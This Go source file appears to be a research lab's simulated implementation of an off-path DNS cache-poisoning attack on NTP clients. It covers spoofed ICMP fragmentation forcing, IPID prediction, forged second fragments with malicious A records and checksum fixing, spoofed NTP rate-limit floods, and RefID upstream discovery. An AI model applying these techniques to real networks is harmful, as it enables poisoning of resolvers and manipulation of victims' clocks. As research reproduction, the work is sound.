// Package attack implements the off-path attacker's toolkit from the paper:
//
//	§III-1  forcing nameservers to fragment via spoofed ICMP
//	        Fragmentation Needed messages,
//	§III-2  IPID probing and extrapolation,
//	§III-2  crafting spoofed second fragments that carry malicious
//	        records,
//	§III-3  fixing the UDP checksum through attacker-controlled slack
//	        bytes,
//	§IV-B   rate-limit abuse floods that break a client's existing NTP
//	        associations, and upstream discovery via RefID leakage (P2).
//
// The attacker is strictly off-path: it observes only packets addressed to
// its own hosts and injects packets with spoofed sources via
// simnet.Network.Inject.
package attack

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"slices"
	"strconv"
	"time"

	"dnstime/internal/dnswire"
	"dnstime/internal/ipv4"
	"dnstime/internal/ntpwire"
	"dnstime/internal/obs"
	"dnstime/internal/simclock"
	"dnstime/internal/simnet"
	"dnstime/internal/simrand"
	"dnstime/internal/udp"
)

// Errors returned by the toolkit.
var (
	ErrNoProbes       = errors.New("attack: no IPID probes answered")
	ErrShapeMismatch  = errors.New("attack: malicious response shape differs from template")
	ErrNoSlack        = errors.New("attack: no attacker-controlled slack bytes in second fragment")
	ErrFragmentBounds = errors.New("attack: response does not span two fragments at this MTU")
	ErrFetchTimeout   = errors.New("attack: template fetch timed out")
)

// Attacker is an off-path attacker with one network vantage point.
type Attacker struct {
	host  *simnet.Host
	net   *simnet.Network
	clock *simclock.Clock
	rng   *rand.Rand
	tr    obs.Tracer // phase-event tracer; obs.Nop (or nil, for the zero value) is off

	// InjectedPackets counts spoofed packets sent (attack volume).
	InjectedPackets int

	wire []byte // encode scratch; SendUDP copies before returning

	// ICMP scratch for ForceFragmentation; Inject copies on entry.
	icmpWire []byte
	icmpPkt  ipv4.Packet

	// Fragment-building scratch: a planting campaign rebuilds its spoofed
	// fragments every round, so the template decode, the twin re-encode,
	// the wire images and the candidate packets are all reused. Inject
	// copies packets on entry, making inject-then-rebuild safe.
	fragDec  dnswire.Decoder
	fragMsg  dnswire.Message
	templBuf []byte
	twinBuf  []byte
	realWire []byte
	malWire  []byte
	spoofF2  []byte
	fragPkts []ipv4.Packet
	frags    []*ipv4.Packet

	// The key of the last successful build, whose second fragment spoofF2
	// still holds, cut at byte lastCut of the datagram: the template's
	// bytes after its 2-byte DNS ID (empty when no build is held), the
	// malicious addresses, the TTL and the MTU. A round whose plan matches
	// re-stamps only the packet headers. A failed or differing build
	// empties lastTmpl before it overwrites spoofF2. The key is content
	// alone, so it survives Reset.
	lastTmpl []byte
	lastMal  []ipv4.Addr
	lastTTL  uint32
	lastMTU  int
	lastCut  int

	// The planting round's slots: the template fetch and the IPID probe
	// in flight, and the ports of trigger queries awaiting their unbind.
	// Their callbacks are bound once in New, so a round allocates
	// nothing. Reset empties them.
	fetch fetchSlot
	probe probeSlot
	trig  trigSlot
}

// fetchSlot is the template fetch in flight (done is nil when none is).
type fetchSlot struct {
	ns        ipv4.Addr
	port      uint16
	start     time.Time
	done      func([]byte, error)
	timer     simclock.Timer
	onReply   simnet.UDPHandler
	onTimeout func()
}

// probeSlot is the IPID probe in flight (done is nil when none is): the
// observed IDs, which done receives and which stay valid until the next
// probe, the probe queries' parameters, and the timers of its sends and,
// last, of its end.
type probeSlot struct {
	ns      ipv4.Addr
	name    string
	port    uint16
	start   time.Time
	ids     []uint16
	done    func([]uint16, error)
	timers  []simclock.Timer
	observe func(*ipv4.Packet)
	send    func()
	finish  func()
}

// trigSlot holds the ports of trigger queries whose unbind is pending.
// Every unbind fires the same delay after its trigger, so they fire in
// trigger order and each takes the oldest port.
type trigSlot struct {
	ports  []uint16
	unbind func()
}

// New creates an attacker operating from host.
func New(host *simnet.Host, seed int64) *Attacker {
	a := &Attacker{
		host:  host,
		net:   host.Network(),
		clock: host.Clock(),
		rng:   rand.New(simrand.New(seed)),
		tr:    obs.Nop,
	}
	a.fetch.onReply, a.fetch.onTimeout = a.fetchReply, a.fetchTimeout
	a.probe.observe, a.probe.send, a.probe.finish = a.probeObserve, a.probeSend, a.probeFinish
	a.trig.unbind = a.trigUnbind
	return a
}

// SetTracer installs the tracer receiving the attacker's phase events
// (ICMP forcing, template fetches, IPID probes, floods), stamped with
// virtual time. nil disables. The lab installs it on every build and
// pool reset; tracing is observation only and never changes behaviour.
func (a *Attacker) SetTracer(tr obs.Tracer) {
	if tr == nil {
		tr = obs.Nop
	}
	a.tr = tr
}

// traceOn reports whether phase events should be emitted (guards the
// detail-string formatting; the zero-value Attacker has a nil tracer).
func (a *Attacker) traceOn() bool { return a.tr != nil && a.tr.Enabled() }

// Reset restores the attacker to the observable state New(host, seed)
// produces: fresh RNG stream, zero packet counter, no fetch, probe or
// trigger in flight. All fragment-building scratch survives — a pooled lab
// reuses its attacker every campaign seed. The host and the clock must
// have been reset first, as the lab pool does: that unbinds the ports and
// drops the timers of whatever was in flight.
func (a *Attacker) Reset(seed int64) {
	a.rng.Seed(seed)
	a.InjectedPackets = 0
	a.fetch.done = nil
	a.probe.done = nil
	a.trig.ports = a.trig.ports[:0]
}

// Host returns the attacker's own host.
func (a *Attacker) Host() *simnet.Host { return a.host }

// Inject sends one spoofed packet and counts it.
func (a *Attacker) Inject(pkt *ipv4.Packet) {
	a.InjectedPackets++
	a.net.Inject(pkt)
}

// ---------------------------------------------------------------------------
// §III-1: forcing fragmentation.

// ForceFragmentation spoofs an ICMP Fragmentation Needed toward ns claiming
// that packets from ns to victim must not exceed mtu. The ICMP's claimed
// sender is an arbitrary "router" address — real stacks do not authenticate
// it.
func (a *Attacker) ForceFragmentation(ns, victim ipv4.Addr, mtu int) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "force-frag",
			"ns="+ns.String()+" victim="+victim.String()+" mtu="+strconv.Itoa(mtu))
	}
	msg := ipv4.ICMPFragNeeded{
		NextHopMTU: uint16(mtu),
		OrigSrc:    ns,
		OrigDst:    victim,
		OrigProto:  ipv4.ProtoUDP,
	}
	a.icmpWire = msg.AppendMarshal(a.icmpWire[:0])
	a.icmpPkt = ipv4.Packet{
		Src:     ipv4.Addr{192, 0, 2, 254}, // fictitious on-path router
		Dst:     ns,
		Proto:   ipv4.ProtoICMP,
		TTL:     ipv4.DefaultTTL,
		Payload: a.icmpWire,
	}
	a.Inject(&a.icmpPkt)
}

// ---------------------------------------------------------------------------
// §III-2: IPID probing and extrapolation.

// ProbeIPIDs sends n DNS probe queries for probeName to ns, spaced by
// `spacing`, observing the IPIDs of the responses. done receives the
// observed IPIDs in order, in the attacker's probe slot: they stay valid
// until the attacker's next ProbeIPIDs. It holds the host's raw-packet
// observer for the whole probe and clears it afterwards, so one attacker
// runs one probe at a time: a probe started while another is in flight
// abandons it, and the earlier done never runs.
func (a *Attacker) ProbeIPIDs(ns ipv4.Addr, probeName string, n int, spacing time.Duration, done func([]uint16, error)) {
	p := &a.probe
	if p.done != nil {
		for i := range p.timers {
			p.timers[i].Stop()
		}
		a.host.UnhandleUDP(p.port)
		p.done = nil
	}
	p.start = a.clock.Now()
	p.ns, p.name, p.done = ns, probeName, done
	p.ids = p.ids[:0]
	a.host.ObserveRaw(p.observe)
	p.port = a.host.AllocPort()
	_ = a.host.HandleUDP(p.port, discard)
	p.timers = slices.Grow(p.timers[:0], n+1)[:n+1]
	for i := 0; i < n; i++ {
		a.clock.ScheduleInto(&p.timers[i], time.Duration(i)*spacing, p.send)
	}
	a.clock.ScheduleInto(&p.timers[n], time.Duration(n)*spacing+2*time.Second, p.finish)
}

// discard is the handler of ports whose answers the attacker ignores.
func discard(ipv4.Addr, uint16, []byte) {}

// probeObserve records the IPID of each unfragmented datagram and of
// each first fragment the probed nameserver sends the attacker.
func (a *Attacker) probeObserve(pkt *ipv4.Packet) {
	if pkt.Src == a.probe.ns && pkt.Proto == ipv4.ProtoUDP && (!pkt.IsFragment() || pkt.FragOff == 0) {
		a.probe.ids = append(a.probe.ids, pkt.ID)
	}
}

// probeSend sends one probe query.
func (a *Attacker) probeSend() {
	p := &a.probe
	q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), p.name, dnswire.TypeA, false)
	wire, err := q.AppendMarshal(a.wire[:0])
	if err != nil {
		return
	}
	a.wire = wire
	a.InjectedPackets++
	_, _ = a.host.SendUDP(p.ns, p.port, 53, wire)
}

// probeFinish ends the probe and hands its IPIDs to done.
func (a *Attacker) probeFinish() {
	p := &a.probe
	a.host.UnhandleUDP(p.port)
	a.host.ObserveRaw(nil)
	if a.traceOn() {
		a.tr.Span(p.start, a.clock.Now(), "attack", "probe-ipids",
			"answered="+strconv.Itoa(len(p.ids)))
	}
	done := p.done
	p.done = nil
	if len(p.ids) == 0 {
		done(nil, ErrNoProbes)
		return
	}
	done(p.ids, nil)
}

// PredictIPIDs extrapolates a window of IPID candidates from probe
// observations: it estimates the per-probe increment and projects `ahead`
// further allocations, appending a window of width `width` centred there
// to dst. It returns dst unchanged when there are no probes.
func PredictIPIDs(dst, probes []uint16, ahead, width int) []uint16 {
	if len(probes) == 0 {
		return dst
	}
	last := probes[len(probes)-1]
	inc := 1
	if len(probes) >= 2 {
		// Average observed increment (mod 2^16), at least 1.
		total := int(uint16(probes[len(probes)-1] - probes[0]))
		inc = total / (len(probes) - 1)
		if inc < 1 {
			inc = 1
		}
	}
	base := int(last) + inc*ahead
	for i := 0; i < width; i++ {
		dst = append(dst, uint16(base+i))
	}
	return dst
}

// ---------------------------------------------------------------------------
// §III-2/3: crafting the spoofed second fragment.

// PoisonPlan describes one cache-poisoning attempt.
type PoisonPlan struct {
	// NS is the authoritative nameserver whose response is hijacked.
	NS ipv4.Addr
	// Resolver is the victim resolver.
	Resolver ipv4.Addr
	// Template is the predicted full DNS response payload (the attacker
	// learns it by querying the nameserver itself; only the first-fragment
	// fields — TXID, ports, checksum — differ toward the victim).
	Template []byte
	// Malicious are the addresses to substitute into the A records.
	Malicious []ipv4.Addr
	// TTL overrides the record TTLs (e.g. > 24 h for the Chronos attack);
	// zero keeps the template's TTLs.
	TTL uint32
	// MTU is the fragment size the nameserver was forced down to.
	MTU int
	// IPIDs is the candidate IPID window to cover.
	IPIDs []uint16
}

// BuildSpoofedFragments crafts one spoofed second fragment per candidate
// IPID. Each fragment reassembles with the nameserver's real first fragment
// (which carries TXID, ports and UDP checksum) into a response whose answer
// addresses are the attacker's and whose UDP checksum still verifies.
// The returned packets share one payload slice — only the IPID varies — and
// they and that payload belong to the attacker, valid only until its next
// call. Inject copies on entry, so the lab's planting loop
// (core.Campaign) never observes the reuse. A zero Attacker builds
// fragments too.
//
// A planting campaign builds the same fragment every round, so the last
// successful build is kept: a plan with the same template bytes after the
// DNS ID, malicious addresses, TTL and MTU reuses its payload. Leaving the
// ID out is exact: the cut is at least 16 bytes into the datagram, so the
// ID lies in the nameserver's own first fragment.
func (a *Attacker) BuildSpoofedFragments(plan PoisonPlan) ([]*ipv4.Packet, error) {
	if !a.repeats(plan) {
		if err := a.buildSecondFragment(plan); err != nil {
			return nil, err
		}
	}
	cut, spoofF2 := a.lastCut, a.spoofF2
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "build-frags",
			"candidates="+strconv.Itoa(len(plan.IPIDs))+" cut="+strconv.Itoa(cut))
	}

	if cap(a.fragPkts) < len(plan.IPIDs) {
		a.fragPkts = make([]ipv4.Packet, len(plan.IPIDs))
	}
	pkts := a.fragPkts[:len(plan.IPIDs)]
	a.frags = a.frags[:0]
	for i, id := range plan.IPIDs {
		// All candidate fragments share one payload: Inject copies packets
		// into the network's pool, so the shared slice is never retained.
		pkts[i] = ipv4.Packet{
			Src:     plan.NS,
			Dst:     plan.Resolver,
			ID:      id,
			Proto:   ipv4.ProtoUDP,
			TTL:     ipv4.DefaultTTL,
			MF:      false,
			FragOff: cut,
			Payload: spoofF2,
		}
		a.frags = append(a.frags, &pkts[i])
	}
	return a.frags, nil
}

// repeats reports whether plan's second fragment is the one the last
// successful build left in spoofF2.
func (a *Attacker) repeats(plan PoisonPlan) bool {
	return len(plan.Template) > 2 && bytes.Equal(plan.Template[2:], a.lastTmpl) &&
		slices.Equal(plan.Malicious, a.lastMal) && plan.TTL == a.lastTTL && plan.MTU == a.lastMTU
}

// buildSecondFragment builds plan's spoofed second fragment into spoofF2
// and, on success, records plan as the last build.
func (a *Attacker) buildSecondFragment(plan PoisonPlan) error {
	a.lastTmpl = a.lastTmpl[:0]
	mal, err := a.maliciousTwin(plan.Template, plan.Malicious, plan.TTL)
	if err != nil {
		return err
	}
	// Both datagrams as the wire sees them: UDP header + DNS payload. The
	// attacker does not know the real ports/checksum but they sit in the
	// first fragment; any placeholder works for computing the split.
	a.realWire = growZeroHeader(a.realWire, udp.HeaderLen+len(plan.Template))
	realWire := a.realWire
	copy(realWire[udp.HeaderLen:], plan.Template)
	a.malWire = growZeroHeader(a.malWire, udp.HeaderLen+len(mal))
	malWire := a.malWire
	copy(malWire[udp.HeaderLen:], mal)

	cut := (plan.MTU - ipv4.HeaderLen) &^ 7
	if cut <= udp.HeaderLen || cut >= len(realWire) {
		return fmt.Errorf("%w: len=%d cut=%d", ErrFragmentBounds, len(realWire), cut)
	}
	realF2 := realWire[cut:]
	a.spoofF2 = append(a.spoofF2[:0], malWire[cut:]...)
	spoofF2 := a.spoofF2

	slack, err := findSlack(spoofF2)
	if err != nil {
		return err
	}
	if err := udp.FixSum(realF2, spoofF2, slack); err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	a.lastTmpl = append(a.lastTmpl, plan.Template[2:]...)
	a.lastMal = append(a.lastMal[:0], plan.Malicious...)
	a.lastTTL, a.lastMTU, a.lastCut = plan.TTL, plan.MTU, cut
	return nil
}

// growZeroHeader returns b resized to n bytes with the UDP-header prefix
// zeroed (the rest is fully overwritten by the caller).
func growZeroHeader(b []byte, n int) []byte {
	if cap(b) < n {
		return make([]byte, n)
	}
	b = b[:n]
	clear(b[:udp.HeaderLen])
	return b
}

// maliciousTwin parses a predicted DNS response and re-encodes it with the
// answer A-record addresses replaced by the attacker's (cycling through
// them) and, optionally, the TTLs overridden. The result must have exactly
// the template's length, since the first fragment (with the length-bearing
// headers) is the nameserver's own. It works through the attacker's decode
// and encode scratch; the returned bytes are valid until the next call.
func (a *Attacker) maliciousTwin(template []byte, malicious []ipv4.Addr, ttl uint32) ([]byte, error) {
	if len(malicious) == 0 {
		return nil, fmt.Errorf("%w: no malicious addresses", ErrShapeMismatch)
	}
	m := &a.fragMsg
	if err := a.fragDec.UnmarshalInto(m, template); err != nil {
		return nil, fmt.Errorf("attack: parse template: %w", err)
	}
	k := 0
	for i := range m.Answers {
		if m.Answers[i].Type == dnswire.TypeA {
			m.Answers[i].Addr = malicious[k%len(malicious)]
			k++
		}
		if ttl > 0 {
			m.Answers[i].TTL = ttl
		}
	}
	out, err := m.AppendMarshal(a.twinBuf[:0])
	if err != nil {
		return nil, fmt.Errorf("attack: re-encode: %w", err)
	}
	a.twinBuf = out
	if len(out) != len(template) {
		return nil, fmt.Errorf("%w: %d != %d bytes", ErrShapeMismatch, len(out), len(template))
	}
	return out, nil
}

// findSlack locates two adjacent 16-bit-aligned bytes inside the padding
// filler (runs of 'p' emitted by dnsauth's response padding) that the
// attacker may repurpose to fix the checksum.
func findSlack(f2 []byte) (int, error) {
	run := 0
	for i, b := range f2 {
		if b == 'p' {
			run++
			if run >= 4 {
				off := (i - 2) &^ 1
				return off, nil
			}
		} else {
			run = 0
		}
	}
	return 0, ErrNoSlack
}

// ---------------------------------------------------------------------------
// Query triggering.

// TriggerOpenResolverQuery makes the victim resolver look up name by
// sending it a recursive query from the attacker's own address — possible
// whenever the resolver is open, and standing in for the "other systems
// sharing the resolver" (Email, web) trigger of §IV-A(2).
func (a *Attacker) TriggerOpenResolverQuery(resolver ipv4.Addr, name string) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "trigger-query", name)
	}
	q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), name, dnswire.TypeA, true)
	wire, err := q.AppendMarshal(a.wire[:0])
	if err != nil {
		return
	}
	a.wire = wire
	port := a.host.AllocPort()
	_ = a.host.HandleUDP(port, discard)
	a.trig.ports = append(a.trig.ports, port)
	a.clock.After(5*time.Second, a.trig.unbind)
	a.InjectedPackets++
	_, _ = a.host.SendUDP(resolver, port, 53, wire)
}

// trigUnbind unbinds the oldest trigger query's port.
func (a *Attacker) trigUnbind() {
	ports := a.trig.ports
	a.host.UnhandleUDP(ports[0])
	a.trig.ports = ports[:copy(ports, ports[1:])]
}

// FetchTemplate queries ns directly for name and hands the raw response
// payload to done — the attacker's way of learning the response template
// whose second fragment it will later replace. The payload done receives
// is the attacker's template buffer, valid until its next FetchTemplate.
// One attacker runs one fetch at a time: a fetch started while another is
// in flight abandons it, and the earlier done never runs.
func (a *Attacker) FetchTemplate(ns ipv4.Addr, name string, done func([]byte, error)) {
	f := &a.fetch
	if f.done != nil {
		f.timer.Stop()
		a.host.UnhandleUDP(f.port)
		f.done = nil
	}
	f.start = a.clock.Now()
	f.ns = ns
	f.port = a.host.AllocPort()
	if err := a.host.HandleUDP(f.port, f.onReply); err != nil {
		done(nil, err)
		return
	}
	f.done = done
	a.clock.ScheduleInto(&f.timer, 3*time.Second, f.onTimeout)
	q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), name, dnswire.TypeA, false)
	wire, err := q.AppendMarshal(a.wire[:0])
	if err != nil {
		f.timer.Stop()
		a.host.UnhandleUDP(f.port)
		f.done = nil
		done(nil, err)
		return
	}
	a.wire = wire
	a.InjectedPackets++
	_, _ = a.host.SendUDP(ns, f.port, 53, wire)
}

// fetchReply takes the template from the nameserver's answer.
func (a *Attacker) fetchReply(src ipv4.Addr, _ uint16, payload []byte) {
	f := &a.fetch
	if src != f.ns {
		return
	}
	f.timer.Stop()
	a.host.UnhandleUDP(f.port)
	if a.traceOn() {
		a.tr.Span(f.start, a.clock.Now(), "attack", "fetch-template",
			"bytes="+strconv.Itoa(len(payload)))
	}
	// The handler's payload aliases a pooled packet buffer, so done gets
	// a copy — made in the attacker's reused template buffer (a planting
	// round consumes the template before the next round re-fetches it).
	a.templBuf = append(a.templBuf[:0], payload...)
	done := f.done
	f.done = nil
	done(a.templBuf, nil)
}

// fetchTimeout ends a fetch the nameserver did not answer.
func (a *Attacker) fetchTimeout() {
	f := &a.fetch
	a.host.UnhandleUDP(f.port)
	if a.traceOn() {
		a.tr.Span(f.start, a.clock.Now(), "attack", "fetch-template", "timeout")
	}
	done := f.done
	f.done = nil
	done(nil, ErrFetchTimeout)
}

// ---------------------------------------------------------------------------
// §IV-B: rate-limit abuse and upstream discovery.

// RateLimitFlood spoofs mode-3 NTP queries with the victim's source address
// toward server: an initial burst to trip the limiter, then periodic
// re-pokes that keep the hold-down armed. Returns a stop function.
func (a *Attacker) RateLimitFlood(server, victim ipv4.Addr, repoke time.Duration) func() {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "flood-start",
			"server="+server.String()+" victim="+victim.String())
	}
	// The spoofed query bytes never change across the flood: build the
	// checksummed wire form once and re-inject it (Inject copies on entry).
	payload := ntpwire.NewClientPacket(a.clock.Now()).Marshal()
	d := &udp.Datagram{Header: udp.Header{SrcPort: ntpwire.Port, DstPort: ntpwire.Port}, Payload: payload}
	wire := udp.WithChecksum(victim, server, d.Marshal())
	pkt := &ipv4.Packet{Src: victim, Dst: server, Proto: ipv4.ProtoUDP, TTL: 64, Payload: wire}
	inject := func() {
		a.Inject(pkt)
	}
	// The initial burst must exceed the server's token-bucket capacity so
	// the hold-down trips; the periodic re-pokes then keep it armed.
	for i := 0; i < 40; i++ {
		a.clock.After(time.Duration(i)*100*time.Millisecond, inject)
	}
	tk := a.clock.Tick(repoke, inject)
	return tk.Stop
}

// DiscoverUpstreamViaRefID queries the victim NTP client (which also serves
// mode 3) and extracts its current sync source from the response RefID —
// the P2 discovery technique.
func (a *Attacker) DiscoverUpstreamViaRefID(victim ipv4.Addr, done func(ipv4.Addr, error)) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "refid-probe", "victim="+victim.String())
	}
	port := a.host.AllocPort()
	var timer *simclock.Timer
	if err := a.host.HandleUDP(port, func(src ipv4.Addr, _ uint16, payload []byte) {
		if src != victim {
			return
		}
		pkt, err := ntpwire.Unmarshal(payload)
		if err != nil {
			return
		}
		timer.Stop()
		a.host.UnhandleUDP(port)
		if addr, ok := pkt.RefIDAddr(); ok && !addr.IsZero() {
			done(addr, nil)
			return
		}
		done(ipv4.Addr{}, fmt.Errorf("attack: refid is not an upstream address"))
	}); err != nil {
		done(ipv4.Addr{}, err)
		return
	}
	timer = a.clock.Schedule(3*time.Second, func() {
		a.host.UnhandleUDP(port)
		done(ipv4.Addr{}, fmt.Errorf("attack: refid probe timed out"))
	})
	q := ntpwire.NewClientPacket(a.clock.Now())
	a.InjectedPackets++
	_, _ = a.host.SendUDP(victim, port, ntpwire.Port, q.Marshal())
}
